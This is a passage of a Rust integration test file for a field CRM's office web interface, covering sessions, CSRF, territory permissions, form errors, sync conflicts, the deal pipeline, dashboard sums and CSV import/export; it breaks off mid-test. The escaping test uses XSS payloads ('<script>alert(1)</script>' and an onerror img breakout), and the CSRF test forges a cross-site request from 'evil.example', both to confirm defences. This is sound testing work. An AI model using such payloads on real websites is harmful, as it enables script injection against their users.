//! Office web UI, in-process through the router: sessions, CSRF, escaping,
//! territories, forms and their messages, conflicts, the pipeline board,
//! the dashboard and CSV. Devices are real core stores syncing through the
//! same router, so office edits are checked where reps receive them.

use std::sync::Arc;

use axum::body::{Body, Bytes};
use axum::http::{header, Request, StatusCode};
use axum::Router;
use fieldcrm_core::protocol;
use fieldcrm_core::{fields, Kind, ListQuery, Store, Value};
use fieldcrm_server::relay::sqlite::SqliteRelay;
use fieldcrm_server::relay::{RelayStore, Role};
use fieldcrm_server::{app, auth, AppState};
use http_body_util::BodyExt;
use tower::ServiceExt;

struct Fixture {
    _dir: tempfile::TempDir,
    dir: std::path::PathBuf,
    relay: Arc<SqliteRelay>,
    app: Router,
    state: Arc<AppState>,
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let relay = Arc::new(SqliteRelay::open(&dir.path().join("relay")).unwrap());
    relay.add_territory("north").unwrap();
    relay.add_territory("south").unwrap();
    let hash = auth::hash_password("password1").unwrap();
    for (user, role, territories) in [
        ("ann", Role::Rep, vec!["north"]),
        ("sam", Role::Rep, vec!["south"]),
        ("maria", Role::Manager, vec!["north", "south"]),
        ("olivia", Role::Office, vec![]),
        ("root", Role::Admin, vec![]),
    ] {
        let t: Vec<String> = territories.into_iter().map(String::from).collect();
        relay.add_user(user, &hash, role, &t).unwrap();
    }
    let state = AppState::new(relay.clone()).unwrap();
    Fixture {
        dir: dir.path().to_path_buf(),
        _dir: dir,
        app: app(state.clone()),
        relay,
        state,
    }
}

/// A signed-in browser: its session cookie and CSRF token.
struct Browser {
    cookie: String,
    csrf: String,
}

struct Answer {
    status: StatusCode,
    location: String,
    body: String,
}

impl Fixture {
    async fn send(&self, request: Request<Body>) -> Answer {
        let response = self.app.clone().oneshot(request).await.unwrap();
        let status = response.status();
        let location = response
            .headers()
            .get(header::LOCATION)
            .map(|l| l.to_str().unwrap().to_string())
            .unwrap_or_default();
        let bytes: Bytes = response.into_body().collect().await.unwrap().to_bytes();
        Answer {
            status,
            location,
            body: String::from_utf8_lossy(&bytes).into_owned(),
        }
    }

    async fn sign_in(&self, user: &str) -> Browser {
        let response = self
            .app
            .clone()
            .oneshot(form_request(
                "/login",
                "",
                &[("username", user), ("password", "password1")],
            ))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::SEE_OTHER);
        let set = response.headers()[header::SET_COOKIE].to_str().unwrap();
        assert!(
            set.contains("HttpOnly") && set.contains("SameSite=Strict"),
            "{set}"
        );
        let cookie = set.split(';').next().unwrap().to_string();
        let mut browser = Browser {
            cookie,
            csrf: String::new(),
        };
        let page = self.get(&browser, "/dashboard").await;
        assert_eq!(page.status, StatusCode::OK);
        browser.csrf = between(&page.body, "name=\"_csrf\" value=\"", "\"").to_string();
        assert_eq!(browser.csrf.len(), 64);
        browser
    }

    async fn get(&self, browser: &Browser, path: &str) -> Answer {
        self.send(
            Request::get(path)
                .header(header::COOKIE, &browser.cookie)
                .body(Body::empty())
                .unwrap(),
        )
        .await
    }

    async fn post(&self, browser: &Browser, path: &str, pairs: &[(&str, &str)]) -> Answer {
        let mut with_csrf = vec![("_csrf", browser.csrf.as_str())];
        with_csrf.extend_from_slice(pairs);
        self.send(form_request(path, &browser.cookie, &with_csrf))
            .await
    }

    /// A device syncs through the router until it is up to date.
    async fn sync(&self, device: &mut Store) {
        let token = {
            let (user, token) = auth::login(&*self.relay, device.user(), "password1")
                .unwrap()
                .unwrap();
            assert_eq!(user.id, device.user());
            token
        };
        for _ in 0..20 {
            let request = Request::post("/v1/sync")
                .header(header::AUTHORIZATION, format!("Bearer {token}"))
                .header(header::CONTENT_TYPE, protocol::CONTENT_TYPE)
                .body(Body::from(device.sync_request().unwrap()))
                .unwrap();
            let response = self.app.clone().oneshot(request).await.unwrap();
            assert_eq!(response.status(), StatusCode::OK);
            let bytes = response.into_body().collect().await.unwrap().to_bytes();
            device.apply_sync_response(&bytes).unwrap();
            let decoded: protocol::SyncResponse = protocol::decode(&bytes).unwrap();
            if !decoded.more && device.outbox_status().unwrap().pending == 0 {
                return;
            }
        }
        panic!("sync did not finish");
    }

    fn device(&self, user: &str) -> Store {
        Store::open(self.dir.join(format!("{user}.db")), user).unwrap()
    }

    /// Creates a record through the UI; returns its id.
    async fn create(&self, browser: &Browser, kind: &str, pairs: &[(&str, &str)]) -> String {
        let answer = self.post(browser, &format!("/{kind}"), pairs).await;
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
        answer.location.strip_prefix("/r/").unwrap().to_string()
    }

    /// Uploads a CSV file for import (step 1) and returns the mapping page.
    async fn import_preview(&self, browser: &Browser, kind: &str, csv: &str) -> Answer {
        let boundary = "XBOUNDARYX";
        let mut body = String::new();
        for (name, value) in [("_csrf", browser.csrf.as_str()), ("kind", kind)] {
            body += &format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
            );
        }
        body += &format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"c.csv\"\r\nContent-Type: text/csv\r\n\r\n{csv}\r\n--{boundary}--\r\n");
        self.send(
            Request::post("/import")
                .header(header::COOKIE, &browser.cookie)
                .header(
                    header::CONTENT_TYPE,
                    format!("multipart/form-data; boundary={boundary}"),
                )
                .body(Body::from(body))
                .unwrap(),
        )
        .await
    }

    /// Runs an import (step 3) with column i mapped to `fields[i]`.
    async fn import_run(
        &self,
        browser: &Browser,
        kind: &str,
        csv: &str,
        fields: &[String],
        extra: &[(&str, &str)],
    ) -> Answer {
        let maps: Vec<(String, &str)> = fields
            .iter()
            .enumerate()
            .map(|(i, f)| (format!("map_{i}"), f.as_str()))
            .collect();
        let mut pairs = vec![("kind", kind), ("csv", csv)];
        pairs.extend_from_slice(extra);
        pairs.extend(maps.iter().map(|(k, v)| (k.as_str(), *v)));
        self.post(browser, "/import/run", &pairs).await
    }

    async fn account(&self, browser: &Browser, name: &str, territory: &str) -> String {
        self.create(
            browser,
            "accounts",
            &[("name", name), ("territory", territory)],
        )
        .await
    }
}

fn form_request(path: &str, cookie: &str, pairs: &[(&str, &str)]) -> Request<Body> {
    Request::post(path)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::COOKIE, cookie)
        .header(header::HOST, "crm.example")
        .header(header::ORIGIN, "http://crm.example")
        .body(Body::from(serde_urlencoded::to_string(pairs).unwrap()))
        .unwrap()
}

fn between<'a>(text: &'a str, start: &str, end: &str) -> &'a str {
    let from = text
        .find(start)
        .unwrap_or_else(|| panic!("{start:?} not in page"))
        + start.len();
    let len = text[from..].find(end).unwrap();
    &text[from..from + len]
}

#[tokio::test]
async fn signing_in_and_out_guards_every_page() {
    let fx = fixture();
    let anonymous = Browser {
        cookie: String::new(),
        csrf: String::new(),
    };
    let answer = fx.get(&anonymous, "/accounts?owner=ann").await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    assert_eq!(answer.location, "/login?next=%2Faccounts%3Fowner%3Dann");
    let wrong = fx
        .send(form_request(
            "/login",
            "",
            &[("username", "ann"), ("password", "nope-nope")],
        ))
        .await;
    assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
    assert!(wrong.body.contains("Wrong username or password."));

    let ann = fx.sign_in("ann").await;
    assert_eq!(fx.get(&ann, "/accounts").await.status, StatusCode::OK);
    // Signing out ends this session only.
    let out = fx.post(&ann, "/logout", &[]).await;
    assert_eq!(out.status, StatusCode::SEE_OTHER);
    assert_eq!(
        fx.get(&ann, "/accounts").await.status,
        StatusCode::SEE_OTHER
    );
}

#[tokio::test]
async fn state_changes_need_the_csrf_token_and_this_site_as_origin() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let pairs = [
        ("name", "Forged"),
        ("territory", "north"),
        ("owner", "olivia"),
    ];
    let forged = fx
        .send(form_request("/accounts", &olivia.cookie, &pairs))
        .await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN);
    assert!(forged.body.contains("CSRF check failed"), "{}", forged.body);
    let mut request = form_request("/accounts", &olivia.cookie, &[("_csrf", &olivia.csrf)]);
    request
        .headers_mut()
        .insert(header::ORIGIN, "https://evil.example".parse().unwrap());
    assert_eq!(fx.send(request).await.status, StatusCode::FORBIDDEN);
    assert_eq!(fx.relay.stats().unwrap().records, 0, "nothing was stored");
}

#[tokio::test]
async fn office_edits_are_the_office_users_changes_and_reach_reps_by_sync() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let mut events = fx.state.head.subscribe();
    let id = fx
        .create(
            &olivia,
            "accounts",
            &[("name", "Acme"), ("territory", "north"), ("owner", "ann")],
        )
        .await;
    // Connected devices are woken at once (the event stream watches this).
    assert!(events.has_changed().unwrap(), "office edits wake devices");
    assert_eq!(
        events.borrow_and_update().newest(),
        fx.relay.head().unwrap()
    );
    let mut ann = fx.device("ann");
    fx.sync(&mut ann).await;
    assert_eq!(ann.get(&id).unwrap().text("name"), Some("Acme"));

    // The rep edits offline and syncs; the office page shows it and its history.
    ann.update(&id, fields([("phone", "+44 20 7946 0000")]))
        .unwrap();
    fx.sync(&mut ann).await;
    let page = fx.get(&olivia, &format!("/r/{id}")).await;
    assert!(page.body.contains("+44 20 7946 0000"));
    let history = between(&page.body, "Field history", "</table>");
    assert!(history.contains("<td>ann</td>"), "{history}");
    assert!(history.contains("<td>olivia</td>"));
    assert!(
        history.contains(">web</td>"),
        "office edits show device web"
    );
    let device = ann.device_id();
    assert!(history.contains(&device[device.len() - 8..]), "{history}");

    // An office edit of the same record reaches the rep.
    let answer = fx
        .post(
            &olivia,
            &format!("/r/{id}"),
            &[
                ("name", "Acme Ltd"),
                ("territory", "north"),
                ("owner", "ann"),
            ],
        )
        .await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
    fx.sync(&mut ann).await;
    let record = ann.get(&id).unwrap();
    assert_eq!(record.text("name"), Some("Acme Ltd"));
    assert_eq!(
        record.text("phone"),
        Some("+44 20 7946 0000"),
        "an untouched field stays"
    );
    let last = ann.history(&id).unwrap().pop().unwrap();
    assert_eq!(last.user, "olivia");

    // Delete and restore travel too.
    assert_eq!(
        fx.post(&olivia, &format!("/r/{id}/delete"), &[])
            .await
            .status,
        StatusCode::SEE_OTHER
    );
    fx.sync(&mut ann).await;
    assert!(ann.get(&id).unwrap().deleted);
    assert!(fx
        .get(&olivia, &format!("/r/{id}"))
        .await
        .body
        .contains("is deleted"));
    fx.post(&olivia, &format!("/r/{id}/restore"), &[]).await;
    fx.sync(&mut ann).await;
    assert!(!ann.get(&id).unwrap().deleted);
}

#[tokio::test]
async fn user_data_is_escaped_everywhere() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let probe = "<script>alert(1)</script>";
    let id = fx
        .create(
            &olivia,
            "accounts",
            &[("name", probe), ("territory", "north")],
        )
        .await;
    fx.create(
        &olivia,
        "contacts",
        &[
            ("account_id", &id),
            ("first_name", probe),
            ("last_name", "\"><img src=x onerror=alert(2)>"),
            ("territory", "north"),
        ],
    )
    .await;
    for path in [
        "/accounts",
        "/contacts",
        &format!("/r/{id}"),
        "/dashboard",
        "/contacts?q=script",
    ] {
        let page = fx.get(&olivia, path).await;
        assert_eq!(page.status, StatusCode::OK, "{path}");
        assert!(
            !page.body.contains(probe),
            "{path} renders the probe as markup"
        );
        assert!(!page.body.contains("<img src=x"), "{path}");
        if path != "/dashboard" {
            assert!(
                page.body.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
                "{path}"
            );
        }
    }
}

#[tokio::test]
async fn reps_see_and_change_only_their_territories() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let north = fx.account(&olivia, "Northwind", "north").await;
    fx.account(&olivia, "Southsea", "south").await;
    let sam = fx.sign_in("sam").await;
    let list = fx.get(&sam, "/accounts").await;
    assert!(list.body.contains("Southsea") && !list.body.contains("Northwind"));
    assert!(!fx
        .get(&sam, "/accounts?q=northwind")
        .await
        .body
        .contains("Northwind"));
    assert!(!fx
        .get(&sam, "/accounts?territory=north")
        .await
        .body
        .contains("Northwind"));
    assert_eq!(
        fx.get(&sam, &format!("/r/{north}")).await.status,
        StatusCode::NOT_FOUND
    );
    let edit = fx
        .post(&sam, &format!("/r/{north}"), &[("name", "Mine now")])
        .await;
    assert_eq!(edit.status, StatusCode::NOT_FOUND);
    assert_eq!(
        fx.post(&sam, &format!("/r/{north}/delete"), &[])
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    let create = fx
        .post(
            &sam,
            "/accounts",
            &[("name", "Sneaky"), ("territory", "north")],
        )
        .await;
    assert_eq!(create.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(create.body.contains("outside yours"), "{}", create.body);
    assert_eq!(fx.relay.stats().unwrap().records, 2);
    let export = fx.get(&sam, "/accounts/export.csv").await;
    assert!(export.body.contains("Southsea") && !export.body.contains("Northwind"));
}

#[tokio::test]
async fn invalid_fields_get_their_message_next_to_them_and_nothing_is_stored() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let acme = fx.account(&olivia, "Acme", "north").await;
    let answer = fx
        .post(
            &olivia,
            "/deals",
            &[
                ("account_id", &acme),
                ("name", "Big"),
                ("stage", "lead"),
                ("amount", "twelve"),
                ("probability", "140"),
                ("territory", "north"),
            ],
        )
        .await;
    assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(between(&answer.body, "id=\"error-amount\"", "</span>").contains("not an amount"));
    assert!(between(&answer.body, "id=\"error-probability\"", "</span>").contains("140"));
    assert!(
        answer.body.contains("value=\"Big\""),
        "the form keeps what was typed"
    );
    let missing = fx
        .post(&olivia, "/contacts", &[("first_name", "Ada")])
        .await;
    assert!(between(&missing.body, "id=\"error-last_name\"", "</span>").contains("required"));
    assert_eq!(fx.relay.stats().unwrap().records, 1);
}

#[tokio::test]
async fn conflicts_show_on_the_record_page_until_the_office_resolves_them() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let id = fx.account(&olivia, "Acme", "north").await;
    // A rep's and a manager's phone both edit `phone` while offline.
    let (mut ann, mut maria) = (fx.device("ann"), fx.device("maria"));
    fx.sync(&mut ann).await;
    fx.sync(&mut maria).await;
    ann.update(&id, fields([("phone", "+44 111")])).unwrap();
    maria.update(&id, fields([("phone", "+44 222")])).unwrap();
    fx.sync(&mut ann).await;
    fx.sync(&mut maria).await;

    let page = fx.get(&olivia, &format!("/r/{id}")).await;
    let conflicts = between(&page.body, "id=\"conflicts-h\"", "</section>");
    assert!(conflicts.contains("+44 111") && conflicts.contains("+44 222"));
    // Each value says who, when and from which device (its id's tail).
    for device in [&ann, &maria] {
        let id = device.device_id();
        let tail: String = id.chars().skip(id.chars().count() - 8).collect();
        assert!(
            conflicts.contains("from <span title=") && conflicts.contains(&format!("…{tail}")),
            "{conflicts}"
        );
    }
    let listed = fx.get(&olivia, "/accounts?conflicts=true").await;
    assert!(listed.body.contains("Acme"));
    // Every page counts the conflicts in the navigation, and links to them.
    let nav = between(&fx.get(&olivia, "/dashboard").await.body, "<nav>", "</nav>").to_string();
    assert!(
        nav.contains("href=\"/conflicts\"") && nav.contains("conflict-count\">1<"),
        "{nav}"
    );
    let all = fx.get(&olivia, "/conflicts").await;
    assert!(
        all.body.contains(&format!("href=\"/r/{id}\">Acme")),
        "{}",
        all.body
    );
    let sam = fx.sign_in("sam").await;
    assert!(
        !fx.get(&sam, "/dashboard").await.body.contains("/conflicts"),
        "not in sam's view"
    );

    // Keep the value shown now (Automerge's pick, which depends on the
    // random actor ids): that changes no value, yet is in the history.
    let shown = fx.relay.record(&id).unwrap().unwrap().record;
    let kept = shown.text("phone").unwrap().to_string();
    let value = serde_json::to_string(&kept).unwrap();
    let resolved = fx
        .post(
            &olivia,
            &format!("/r/{id}/resolve"),
            &[("field", "phone"), ("value", &value)],
        )
        .await;
    assert_eq!(resolved.status, StatusCode::SEE_OTHER);
    let page = fx.get(&olivia, &format!("/r/{id}")).await;
    assert!(!page.body.contains("id=\"conflicts-h\""));
    assert!(
        !page.body.contains("href=\"/conflicts\""),
        "none left to count"
    );
    let history = between(&page.body, "Field history", "</table>");
    let resolution = between(history, "<tr class=\"quiet\">", "</tr>");
    assert!(
        resolution.contains("<td>olivia</td>") && resolution.contains("conflict resolved"),
        "{resolution}"
    );
    fx.sync(&mut ann).await;
    assert!(ann.conflicts(&id).unwrap().is_empty());
    assert_eq!(ann.get(&id).unwrap().text("phone"), Some(kept.as_str()));
}

#[tokio::test]
async fn the_board_moves_deals_and_the_dashboard_shows_the_pipeline_then_and_now() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let acme = fx.account(&olivia, "Acme", "north").await;
    let deal = fx
        .create(
            &olivia,
            "deals",
            &[
                ("account_id", &acme),
                ("name", "Big"),
                ("stage", "lead"),
                ("amount", "1000"),
                ("currency", "EUR"),
                ("territory", "north"),
            ],
        )
        .await;
    let board = fx.get(&olivia, "/pipeline").await;
    let lead = between(&board.body, "data-stage=\"lead\"", "</section>");
    assert!(
        lead.contains("Big") && lead.contains("1,000.00 EUR"),
        "{lead}"
    );
    let moved = fx
        .post(
            &olivia,
            "/pipeline/move",
            &[("id", &deal), ("stage", "won")],
        )
        .await;
    assert_eq!(moved.status, StatusCode::SEE_OTHER);
    let board = fx.get(&olivia, "/pipeline").await;
    assert!(between(&board.body, "data-stage=\"won\"", "</section>").contains("Big"));
    let bad = fx
        .post(
            &olivia,
            "/pipeline/move",
            &[("id", &deal), ("stage", "heaven")],
        )
        .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(bad.body.contains("heaven"));

    // Before the deal existed, the pipeline was empty; it was open a
    // moment before it was won, and now (won) it is out of the pipeline.
    let past = fx.get(&olivia, "/dashboard?at=2020-01-01").await;
    let then = between(
        &past.body,
        "Open pipeline at the end of 2020-01-01",
        "</section>",
    );
    assert!(then.contains("No open deals."), "{then}");
    let dashboard = fx.get(&olivia, "/dashboard").await;
    let now = between(&dashboard.body, "id=\"pipeline-h\"", "</section>");
    assert!(now.contains("No open deals."), "{now}");
}

/// The dashboard's figures, checked against deals whose sums are known:
/// open stages only, one table per currency, weighted by each deal's
/// probability or its stage's, the forecast by close month, and won and
/// lost by close date in this quarter.
#[tokio::test]
async fn the_dashboard_adds_up_open_deals_per_currency_and_forecasts_by_close_month() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let acme = fx.account(&olivia, "Acme", "north").await;
    let today = time::OffsetDateTime::now_utc().date();
    let this_month = format!("{:04}-{:02}", today.year(), u8::from(today.month()));
    let this_day = format!("{this_month}-{:02}", today.day());
    let last_year = format!("{}-06-15", today.year() - 1);
    let deals: &[(&str, &str, &str, &str, &str, &str)] = &[
        // name, stage, amount, currency, close date, probability
        ("A", "lead", "1000", "EUR", &this_day, ""),
        ("B", "proposal", "500", "EUR", &this_day, "90"),
        ("C", "negotiation", "300", "GBP", "", ""),
        ("D", "qualified", "200", "EUR", &last_year, ""),
        ("W", "won", "700", "EUR", &this_day, ""),
        ("L", "lost", "9000", "EUR", &this_day, ""),
        ("Old", "won", "5000", "EUR", &last_year, ""),
    ];
    for (name, stage, amount, currency, close, probability) in deals {
        fx.create(
            &olivia,
            "deals",
            &[
                ("account_id", &acme),
                ("name", name),
                ("stage", stage),
                ("amount", amount),
                ("currency", currency),
                ("close_date", close),
                ("probability", probability),
                ("territory", "north"),
            ],
        )
        .await;
    }
    let page = fx.get(&olivia, "/dashboard").await;
    assert_eq!(page.status, StatusCode::OK);
    let eur = between(&page.body, "data-currency=\"EUR\">", "</table>");
    let total = between(eur, "<tfoot>", "</tfoot>");
    // Open only: A + B + D; lost's 9,000 and the won deals are not there.
    assert!(
        total.contains(">3<") && total.contains("1,700.00 EUR"),
        "{total}"
    );
    // lead 20% of 1000 + B's own 90% of 500 + qualified 40% of 200
    assert!(total.contains("730.00 EUR"), "{total}");
    assert!(!eur.contains("data-stage=\"won\"") && !eur.contains("data-stage=\"lost\""));
    let gbp = between(&page.body, "data-currency=\"GBP\">", "</table>");
    assert!(
        between(gbp, "<tfoot>", "</tfoot>").contains("240.00 GBP"),
        "{gbp}"
    );
    assert!(!gbp.contains("EUR") && !eur.contains("GBP"));

    let forecast = between(
        &page.body,
        "aria-label=\"Forecast by close month\"",
        "</table>",
    );
    let month = between(
        forecast,
        &format!("data-month=\"{this_month}\" data-currency=\"EUR\">"),
        "</tr>",
    );
    assert!(
        month.contains("1,500.00 EUR") && month.contains("650.00 EUR"),
        "{month}"
    );
    let overdue = between(forecast, "<tr class=\"overdue\"", "</tr>");
    assert!(
        overdue.contains("past close date") && overdue.contains("200.00 EUR"),
        "{overdue}"
    );
    let undated = between(forecast, "data-month=\"\" data-currency=\"GBP\">", "</tr>");
    assert!(undated.contains("no close date"), "{undated}");

    let won = between(&page.body, "<tr class=\"won\">", "</tr>");
    assert!(won.contains("1 deal, 700.00 EUR"), "{won}");
    let lost = between(&page.body, "<tr class=\"lost\">", "</tr>");
    assert!(lost.contains("1 deal, 9,000.00 EUR"), "{lost}");
    assert!(page.body.contains("50% of deals closed"));

    // Records per user lists users, with their counts.
    let reps = between(&page.body, "Records per user", "</table>");
    assert!(
        reps.contains(">olivia<") && reps.contains(">ann<"),
        "{reps}"
    );

    // A date that is not one is said beside the box; the page still shows.
    let bad = fx.get(&olivia, "/dashboard?at=yesterday").await;
    assert_eq!(bad.status, StatusCode::OK);
    assert!(
        bad.body.contains("“yesterday” is not a date"),
        "{}",
        bad.body
    );
    assert!(bad.body.contains("aria-invalid=\"true\"") && bad.body.contains("Open pipeline"));
}

#[tokio::test]
async fn stage_conversion_comes_from_every_deals_stage_history() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let acme = fx.account(&olivia, "Acme", "north").await;
    let mut deals = Vec::new();
    for name in ["Won one", "Lost one", "Open one"] {
        let pairs = [
            ("account_id", acme.as_str()),
            ("name", name),
            ("stage", "lead"),
            ("territory", "north"),
        ];
        deals.push(fx.create(&olivia, "deals", &pairs).await);
    }
    let moves = [
        (&deals[0], "qualified"),
        (&deals[0], "won"),
        (&deals[1], "lost"),
        (&deals[2], "proposal"),
    ];
    for (id, stage) in moves {
        let moved = fx
            .post(&olivia, "/pipeline/move", &[("id", id), ("stage", stage)])
            .await;
        assert_eq!(moved.status, StatusCode::SEE_OTHER);
    }
    let dashboard = fx.get(&olivia, "/dashboard").await;
    assert!(dashboard.body.contains("href=\"/dashboard/stages\""));
    let page = fx.get(&olivia, "/dashboard/stages").await;
    assert_eq!(page.status, StatusCode::OK);
    let lead = between(&page.body, "<tr data-stage=\"lead\">", "</tr>");
    let cell =
        |row: &str, class: &str| between(row, &format!("class=\"num {class}\">"), "<").to_string();
    assert_eq!(cell(lead, "reached"), "3");
    assert_eq!(cell(lead, "moved"), "2", "won one and open one moved on");
    assert_eq!(cell(lead, "lost"), "1");
    assert_eq!(cell(lead, "conversion"), "66%");
    assert_ne!(cell(lead, "stay"), "—", "three deals left lead");
    let proposal = between(&page.body, "<tr data-stage=\"proposal\">", "</tr>");
    assert_eq!(cell(proposal, "reached"), "2", "the won deal passed it");
    assert_eq!(cell(proposal, "open"), "1");
    assert!(
        !page.body.contains("data-stage=\"won\""),
        "open stages only"
    );
}

#[tokio::test]
async fn csv_import_maps_columns_reports_rejected_rows_and_export_round_trips() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    fx.account(&olivia, "Acme", "north").await;
    let csv = "Given name,Surname,E-mail,Company,Region\n\
               Ada,Lovelace,ada@example.com,Acme,north\n\
               Bob,Noaccount,bob@example.com,Nowhere Inc,north\n\
               Cy,Bademail,not-an-email,Acme,north\n\
               Di,Okay,di@example.com,acme,north\n";
    let preview = fx.import_preview(&olivia, "contact", csv).await;
    assert_eq!(preview.status, StatusCode::OK, "{}", preview.body);
    assert!(preview.body.contains("4 rows"));
    // The guessed mapping: Company finds the account by name, E-mail the email.
    assert!(between(&preview.body, "name=\"map_3\"", "</select>")
        .contains("value=\"by_name\" selected"));
    assert!(
        between(&preview.body, "name=\"map_2\"", "</select>").contains("value=\"email\" selected")
    );

    let run = fx
        .post(
            &olivia,
            "/import/run",
            &[
                ("kind", "contact"),
                ("csv", csv),
                ("map_0", "first_name"),
                ("map_1", "last_name"),
                ("map_2", "email"),
                ("map_3", "by_name"),
                ("map_4", "territory"),
            ],
        )
        .await;
    assert_eq!(run.status, StatusCode::OK, "{}", run.body);
    assert!(
        run.body.contains("<strong class=\"imported\">2</strong>"),
        "{}",
        run.body
    );
    let rejected = between(&run.body, "<table class=\"rejected\">", "</table>");
    assert!(
        rejected.contains("<td>3</td><td>no account named &quot;Nowhere Inc&quot;</td>"),
        "{rejected}"
    );
    assert!(
        rejected.contains("<td>4</td>") && rejected.contains("not-an-email"),
        "{rejected}"
    );
    let contacts = fx.relay.list(&ListQuery::kind(Kind::Contact)).unwrap();
    assert_eq!(contacts.total, 2);
    assert!(contacts
        .records
        .iter()
        .all(|c| c.text("owner") == Some("olivia")));

    let export = fx.get(&olivia, "/contacts/export.csv?sort=name").await;
    assert_eq!(export.status, StatusCode::OK);
    let body = export
        .body
        .strip_prefix('\u{feff}')
        .expect("a byte-order mark, for spreadsheet programs");
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader.headers().unwrap().clone();
    assert_eq!(&header[0], "id");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    let first_name = header.iter().position(|h| h == "first_name").unwrap();
    assert_eq!(&rows[0][first_name], "Ada");
}

/// The field the mapping page chose for column `i`.
fn mapped(preview: &str, i: usize) -> String {
    let select = between(preview, &format!("name=\"map_{i}\""), "</select>");
    match select.split_once("\" selected>") {
        Some((before, _)) => before.rsplit("value=\"").next().unwrap().to_string(),
        None => String::new(),
    }
}

#[tokio::test]
async fn every_kind_imports_with_common_column_names_a_territory_default_and_duplicates_skipped() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    fx.account(&olivia, "Acme", "north").await;

    // Accounts: City and Country are recognised; Acme exists; Beta twice.
    let csv = "Company,City,Country,Sector\n\
               Acme,Leeds,UK,Steel\n\
               Beta,York,UK,Retail\n\
               beta ,York,UK,Retail\n\
               Gamma,Hull,UK,Fishing\n";
    let preview = fx.import_preview(&olivia, "account", csv).await;
    assert_eq!(preview.status, StatusCode::OK, "{}", preview.body);
    let guessed: Vec<String> = (0..4).map(|i| mapped(&preview.body, i)).collect();
    assert_eq!(
        guessed,
        ["name", "address.city", "address.country", "industry"]
    );
    // An office user (all territories) picks the territory rows lack.
    assert!(preview.body.contains("name=\"default_territory\""));
    let extra = [("default_territory", "south"), ("skip_duplicates", "true")];
    let run = fx
        .import_run(&olivia, "account", csv, &guessed, &extra)
        .await;
    assert_eq!(run.status, StatusCode::OK, "{}", run.body);
    assert!(
        run.body.contains("<strong class=\"imported\">2</strong>"),
        "{}",
        run.body
    );
    assert!(
        run.body.contains("<strong class=\"skipped\">2</strong>"),
        "{}",
        run.body
    );
    let duplicates = between(&run.body, "<table class=\"duplicates\">", "</table>");
    assert!(
        duplicates.contains("<td>2</td><td>“<a href=\"/r/")
            && duplicates.contains("Acme</a>”, which you have"),
        "{duplicates}"
    );
    assert!(
        duplicates.contains("<td>4</td><td>line 3 of this file</td><td>skipped</td>"),
        "{duplicates}"
    );
    let gamma = fx
        .relay
        .search("Gamma", Some(Kind::Account), &[], 5)
        .unwrap()
        .pop()
        .unwrap();
    assert_eq!(gamma.text("territory"), Some("south"));
    assert_eq!(gamma.text("address.city"), Some("Hull"));

    // Deals by account name, with deal name, value and close date.
    let csv = "Opportunity,Company,Value,Close date,Stage\n\
               Renewal,Acme,1200.50,2026-12-20,proposal\n\
               Upsell,Gamma,300,2027-01-10,lead\n";
    let preview = fx.import_preview(&olivia, "deal", csv).await;
    let guessed: Vec<String> = (0..5).map(|i| mapped(&preview.body, i)).collect();
    assert_eq!(
        guessed,
        ["name", "by_name", "amount", "close_date", "stage"]
    );
    let extra = [("default_territory", "north")];
    let run = fx.import_run(&olivia, "deal", csv, &guessed, &extra).await;
    assert!(
        run.body.contains("<strong class=\"imported\">2</strong>"),
        "{}",
        run.body
    );
    let renewal = fx
        .relay
        .search("Renewal", Some(Kind::Deal), &[], 5)
        .unwrap()
        .pop()
        .unwrap();
    assert_eq!(
        renewal.get("amount"),
        Some(&fieldcrm_core::Value::Int(120_050))
    );
    assert_eq!(renewal.text("stage"), Some("proposal"));

    // Activities about an account by its name; Type and Due are recognised.
    let csv = "Subject,Type,Due,Related to\nCall back,call,2026-12-02T10:00,Acme\n";
    let preview = fx.import_preview(&olivia, "activity", csv).await;
    let guessed: Vec<String> = (0..4).map(|i| mapped(&preview.body, i)).collect();
    assert_eq!(guessed, ["subject", "kind", "due_at", "by_name"]);
}

#[tokio::test]
async fn the_catalogue_imports_products_then_prices_by_sku() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let csv = "SKU,Name,Unit,Active\nP-1,Lemonade,case,true\nP-2,Cola,case,true\n";
    let preview = fx.import_preview(&olivia, "product", csv).await;
    assert_eq!(preview.status, StatusCode::OK, "{}", preview.body);
    let guessed: Vec<String> = (0..4).map(|i| mapped(&preview.body, i)).collect();
    assert_eq!(guessed, ["sku", "name", "unit", "active"]);
    let extra = [("default_territory", fieldcrm_core::SHARED_TERRITORY)];
    let run = fx
        .import_run(&olivia, "product", csv, &guessed, &extra)
        .await;
    assert!(
        run.body.contains("<strong class=\"imported\">2</strong>"),
        "{}",
        run.body
    );

    // Prices name their product by SKU (or name); an unknown one is refused.
    let csv = "SKU,Currency,Unit price,Valid from\n\
